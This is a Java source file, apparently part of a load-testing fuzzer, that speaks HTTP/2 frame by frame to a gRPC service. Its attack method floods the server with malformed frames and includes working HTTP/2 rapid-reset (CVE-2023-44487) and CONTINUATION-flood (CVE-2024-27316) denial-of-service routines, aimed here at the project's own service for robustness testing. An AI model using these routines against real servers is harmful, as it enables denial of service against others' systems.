package io.bellwether.loadtest.fuzz;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * An HTTP/2 connection of frames that are written by hand, one call at a time (RFC 9113). It tells
 * the service to keep no table of headers, so that what it reads of HPACK (RFC 7541) are names and
 * values as they stand. Opens itself again where the service closed it. Confined to a thread.
 */
final class GrpcConnection implements AutoCloseable {

  /** Ended without a status: the stream was reset, or the connection closed. */
  static final int CUT = -1;

  /** Nothing came in time. */
  static final int SILENT = -2;

  private static final int PATIENCE_MILLIS = 20_000;
  private static final int BROKEN_PATIENCE_MILLIS = 200;
  private static final int FRAME_HEADER = 9;
  private static final int MAX_FRAME = 16_384;
  private static final int FIRST_WINDOW = 65_535;

  /** Streams of a connection, so that new ones are opened in between, too. */
  private static final int STREAMS = 2000;

  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int RESET = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int GO_AWAY = 7;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int ACK = 1;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;
  private static final int PADDED = 8;
  private static final int PRIORITY = 0x20;

  private final InetSocketAddress address;
  private @Nullable Socket socket;
  private @Nullable DataInputStream in;
  private int stream;
  private int window;

  GrpcConnection(InetSocketAddress address) {
    this.address = address;
  }

  /** The call's {@code grpc-status}, or what happened in place of one. */
  int call(HostileGrpc.Call call) throws IOException {
    Socket open = ready(call.data().length);
    try {
      open.setSoTimeout(call.whole() ? PATIENCE_MILLIS : BROKEN_PATIENCE_MILLIS);
      stream += 2;
      send(HEADERS, END_HEADERS, stream, headers(call.headers()));
      sendData(call.data());
      int status = status();
      if (!call.whole()) {
        close();
      }
      return status;
    } catch (SocketTimeoutException e) {
      close();
      return SILENT;
    } catch (IOException e) {
      close();
      return CUT;
    }
  }

  /** Sends frames that no client would, many of them, and leaves. */
  void attack(Chance chance) throws IOException {
    close();
    ready(0);
    try {
      switch (chance.below(9)) {
        case 0 -> many(chance, HEADERS, 0, 2, new byte[0]);
        case 1 -> many(chance, PING, 0, 0, new byte[8]);
        case 2 -> many(chance, SETTINGS, 0, 0, new byte[0]);
        case 3 -> many(chance, WINDOW_UPDATE, 0, 0, new byte[] {127, -1, -1, -1});
        case 4 -> many(chance, CONTINUATION, 0, 1, chance.bytes(50));
        case 5 -> resets(chance.of(10, 300, 5000));
        case 6 -> unendingHeaders(chance.of(5, 2000));
        case 7 -> rawSocket().getOutputStream().write(chance.bytes(2000));
        default -> send(chance.below(16), chance.below(256), chance.below(8), chance.bytes(30));
      }
    } catch (IOException closed) {
      // What the service may do with such a client.
    }
    close();
  }

  private void many(Chance chance, int type, int flags, int id, byte[] payload) throws IOException {
    int times = chance.of(1, 100, 3000);
    for (int i = 0; i < times; i++) {
      send(type, flags, id, payload);
    }
  }

  /** Calls that are given up as soon as they begin (CVE-2023-44487). */
  private void resets(int times) throws IOException {
    byte[] headers =
        headers(
            List.of(
                new HostileGrpc.Header(":method", "POST"),
                new HostileGrpc.Header(":scheme", "http"),
                new HostileGrpc.Header(":path", "/bellwether.v1.Decisions/Decide"),
                new HostileGrpc.Header("content-type", "application/grpc"),
                new HostileGrpc.Header("te", "trailers")));
    for (int i = 0; i < times; i++) {
      stream += 2;
      send(HEADERS, END_HEADERS, stream, headers);
      send(RESET, 0, stream, new byte[] {0, 0, 0, 8});
    }
  }

  /** Headers that go on in frame after frame (CVE-2024-27316). */
  private void unendingHeaders(int times) throws IOException {
    stream += 2;
    byte[] header = headers(List.of(new HostileGrpc.Header("x", "y".repeat(100))));
    send(HEADERS, 0, stream, header);
    for (int i = 0; i < times; i++) {
      send(CONTINUATION, 0, stream, header);
    }
  }

  private Socket ready(int bytes) throws IOException {
    if (socket == null || stream > STREAMS || bytes > window) {
      close();
      return open();
    }
    return rawSocket();
  }

  private Socket open() throws IOException {
    Socket opened = new Socket();
    opened.setTcpNoDelay(true);
    opened.setSoLinger(true, 0);
    opened.connect(address, PATIENCE_MILLIS);
    socket = opened;
    in = new DataInputStream(opened.getInputStream());
    stream = -1;
    window = FIRST_WINDOW;
    opened.getOutputStream().write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(ISO_8859_1));
    send(SETTINGS, 0, 0, new byte[] {0, 1, 0, 0, 0, 0}); // SETTINGS_HEADER_TABLE_SIZE = 0
    return opened;
  }

  private Socket rawSocket() throws IOException {
    Socket open = socket;
    if (open == null) {
      throw new EOFException();
    }
    return open;
  }

  private void sendData(byte[] data) throws IOException {
    int sent = 0;
    do {
      int size = Math.min(MAX_FRAME, data.length - sent);
      byte[] part = ByteBuffer.allocate(size).put(data, sent, size).array();
      sent += size;
      send(DATA, sent == data.length ? END_STREAM : 0, stream, part);
    } while (sent < data.length);
    window -= data.length;
  }

  private void send(int type, int flags, int id, byte[] payload) throws IOException {
    rawSocket()
        .getOutputStream()
        .write(
            ByteBuffer.allocate(FRAME_HEADER + payload.length)
                .put((byte) (payload.length >>> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(id)
                .put(payload)
                .array());
  }

  private int status() throws IOException {
    DataInputStream from = in;
    if (from == null) {
      throw new EOFException();
    }
    int status = CUT;
    while (true) {
      int length = from.readUnsignedByte() << 16 | from.readUnsignedShort();
      int type = from.readUnsignedByte();
      int flags = from.readUnsignedByte();
      int id = from.readInt();
      byte[] payload = new byte[length];
      from.readFully(payload);
      if (type == SETTINGS && (flags & ACK) == 0) {
        send(SETTINGS, ACK, 0, new byte[0]);
      } else if (type == PING && (flags & ACK) == 0) {
        send(PING, ACK, 0, payload);
      } else if (type == WINDOW_UPDATE && id == 0) {
        window += ByteBuffer.wrap(payload).getInt();
      } else if (type == GO_AWAY) {
        throw new EOFException();
      } else if (id == stream && type == RESET) {
        return status;
      } else if (id == stream && type == HEADERS) {
        status = Math.max(status, grpcStatus(payload, flags));
      }
      if (id == stream && (flags & END_STREAM) != 0 && (type == HEADERS || type == DATA)) {
        return status;
      }
    }
  }

  private static byte[] headers(List<HostileGrpc.Header> headers) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    for (HostileGrpc.Header header : headers) {
      bytes.write(0);
      literal(header.name(), bytes);
      literal(header.value(), bytes);
    }
    return bytes.toByteArray();
  }

  private static void literal(String text, ByteArrayOutputStream to) {
    byte[] bytes = text.getBytes(ISO_8859_1);
    if (bytes.length < 127) {
      to.write(bytes.length);
    } else {
      to.write(127);
      int rest = bytes.length - 127;
      for (; rest >= 128; rest >>>= 7) {
        to.write((rest & 0x7F) | 0x80);
      }
      to.write(rest);
    }
    to.writeBytes(bytes);
  }

  /** The value of {@code grpc-status}; {@link #CUT} where these headers have none. */
  private static int grpcStatus(byte[] payload, int flags) {
    ByteBuffer block = ByteBuffer.wrap(payload);
    if ((flags & PADDED) != 0) {
      int padding = block.get() & 0xFF;
      block.limit(block.limit() - padding);
    }
    if ((flags & PRIORITY) != 0) {
      block.position(block.position() + 5);
    }
    while (block.hasRemaining()) {
      int first = block.get() & 0xFF;
      if ((first & 0x80) != 0) {
        integer(first & 0x7F, 127, block);
      } else if ((first & 0xE0) == 0x20) {
        integer(first & 0x1F, 31, block);
      } else {
        int mask = (first & 0x40) != 0 ? 63 : 15;
        int index = integer(first & mask, mask, block);
        String name = index == 0 ? text(block) : "";
        String value = text(block);
        if (name.equals("grpc-status")) {
          return Integer.parseInt(value);
        }
      }
    }
    return CUT;
  }

  private static int integer(int start, int mask, ByteBuffer block) {
    if (start < mask) {
      return start;
    }
    int value = mask;
    int next;
    int shift = 0;
    do {
      next = block.get();
      value += (next & 0x7F) << shift;
      shift += 7;
    } while ((next & 0x80) != 0);
    return value;
  }

  private static String text(ByteBuffer block) {
    int first = block.get() & 0xFF;
    byte[] bytes = new byte[integer(first & 0x7F, 127, block)];
    block.get(bytes);
    return (first & 0x80) != 0 ? "compressed" : new String(bytes, ISO_8859_1);
  }

  @Override
  public void close() throws IOException {
    Socket open = socket;
    socket = null;
    in = null;
    if (open != null) {
      open.close();
    }
  }
}
